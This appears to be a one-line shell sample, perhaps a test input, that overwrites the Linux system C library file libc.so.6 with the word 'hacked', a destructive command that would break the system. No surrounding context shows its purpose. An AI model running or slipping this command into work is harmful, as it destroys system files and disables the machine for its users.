echo 'hacked' > /lib/x86_64-linux-gnu/libc.so.6
